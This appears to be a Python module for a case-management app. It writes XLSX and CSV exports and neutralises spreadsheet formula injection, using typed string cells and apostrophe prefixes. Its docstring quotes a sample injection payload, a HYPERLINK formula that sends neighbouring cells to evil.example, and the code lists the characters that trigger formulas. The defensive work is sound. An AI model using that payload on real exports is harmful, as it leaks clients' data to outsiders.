"""The one writer of Lotse's spreadsheet downloads (XLSX and CSV): text stays inert, numbers and dates stay typed.

A spreadsheet program runs a cell that begins with ``=`` as a formula (in a
CSV file also one that begins with ``+``, ``-``, ``@``, a tab or a carriage
return). A family name ``=HYPERLINK("http://evil.example/?"&A1,"Klick")``
typed into a case would otherwise send the neighbouring cells to a stranger
when a caseworker opens the export. So every XLSX and CSV export of Lotse
writes its cells through this module:

- XLSX: text is a string cell (data type ``s``) holding the text unchanged,
  so the workbook import reads it back exactly. openpyxl on its own turns
  every string that begins with ``=`` into a formula, in normal and in
  write-only sheets alike; :func:`cell` sets the type explicitly.
- CSV has no types: text that begins with one of the characters above is
  written with a leading apostrophe, as OWASP recommends; numbers and dates
  are written as German spreadsheets read them.

Numbers stay numbers and dates stay dates (shown DD.MM.YYYY) in both.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any, TypeAlias

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# The first characters that make a spreadsheet program read a text as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BOLD = Font(bold=True)
TITLE = Font(bold=True, size=13)
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
# Characters a sheet's name may not have.
SHEET_TITLE_FORBIDDEN = "[]:*?/\\"

Sheet: TypeAlias = Worksheet | WriteOnlyWorksheet


# XLSX


def new_workbook(title: str) -> tuple[Workbook, Worksheet]:
    """A workbook whose first sheet is named ``title``; for exports that style or size cells after writing."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.title = sheet_title(title)
    return workbook, sheet


def streaming_workbook() -> Workbook:
    """A write-only workbook: rows go to the file as they are appended, for exports of many records."""
    return Workbook(write_only=True)


def add_sheet(workbook: Workbook, title: str) -> Any:
    """A further sheet named ``title`` (a write-only sheet in a streaming workbook)."""
    return workbook.create_sheet(sheet_title(title))


SHEET_TITLE_LENGTH = 31  # Excel's limit


def sheet_title(caption: str) -> str:
    """A caption as a sheet name: without the characters Excel forbids there, at most 31 characters, cut after
    a whole word where one ends after the first dozen characters ("Klient:innen nach Aufenthalts…" would read
    "Klient innen nach" rather than stop mid-word)."""
    for forbidden in SHEET_TITLE_FORBIDDEN:
        caption = caption.replace(forbidden, " ")
    caption = " ".join(caption.split())
    if len(caption) <= SHEET_TITLE_LENGTH:
        return caption
    cut = caption[: SHEET_TITLE_LENGTH + 1].rfind(" ")
    return (caption[:cut] if cut >= 12 else caption[:SHEET_TITLE_LENGTH]).rstrip(" ,;–-(")


def _text(value: Any) -> str:
    # XML cannot hold most control characters; openpyxl refuses them rather than write a broken file.
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def cell(sheet: Sheet, value: Any, *, font: Font | None = None, number_format: str | None = None) -> Cell:
    """One cell of ``sheet``: text as an inert string cell, numbers as numbers, dates as dates."""
    if isinstance(value, Cell):
        return value
    number_format_of_type = None
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        result = Cell(sheet, row=1, column=1, value=value)
    elif isinstance(value, datetime.datetime):
        if timezone.is_aware(value):  # Excel knows no time zones: the local time, as the pages show it
            value = timezone.make_naive(value)
        result = Cell(sheet, row=1, column=1, value=value)
        number_format_of_type = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        result = Cell(sheet, row=1, column=1, value=value)
        number_format_of_type = DATE_FORMAT
    else:
        result = Cell(sheet, row=1, column=1, value=_text(value))
        result.data_type = "s"  # never "f": a text that begins with "=" stays a text
    if font is not None:
        result.font = font
    if number_format or number_format_of_type:
        result.number_format = number_format or number_format_of_type
    return result


def append_row(sheet: Sheet, values: Iterable[Any], *, font: Font | None = None) -> None:
    """One row of cells (see :func:`cell`); ``values`` may hold cells made by :func:`cell`."""
    sheet.append([cell(sheet, value, font=font) for value in values])


def append_table(sheet: Sheet, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> None:
    """A bold header row, then the rows."""
    append_row(sheet, header, font=BOLD)
    for row in rows:
        append_row(sheet, row)


def set_widths(sheet: Sheet, first: float, others: float, columns: int) -> None:
    """The first column ``first`` characters wide (it holds the labels), the next ``columns - 1`` ``others``."""
    sheet.column_dimensions["A"].width = first
    for column in range(2, columns + 1):
        sheet.column_dimensions[get_column_letter(column)].width = others


def fit_columns(sheet: Worksheet) -> None:
    """Each column as wide as its longest value (10 to 80 characters)."""
    for index, column in enumerate(sheet.iter_cols(), start=1):
        width = max((len(str(c.value)) for c in column if c.value is not None), default=8)
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 10), 80)


def workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def save_workbook(workbook: Workbook, stream: IO[bytes]) -> None:
    workbook.save(stream)


# CSV


def csv_field(value: Any) -> str:
    """One CSV field: numbers with a decimal comma and no thousands separator, dates DD.MM.YYYY, text inert."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, (float, Decimal)):
        number = value if isinstance(value, Decimal) else Decimal(repr(value))
        return format(number, "f").replace(".", ",")
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.strftime("%d.%m.%Y %H:%M")
    if isinstance(value, datetime.date):
        return value.strftime("%d.%m.%Y")
    text = str(value).replace("\x00", "")
    return f"'{text}" if text.startswith(FORMULA_TRIGGERS) else text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """Rows as ``;``-separated UTF-8 with BOM and CRLF, as German Excel opens it by a double click."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
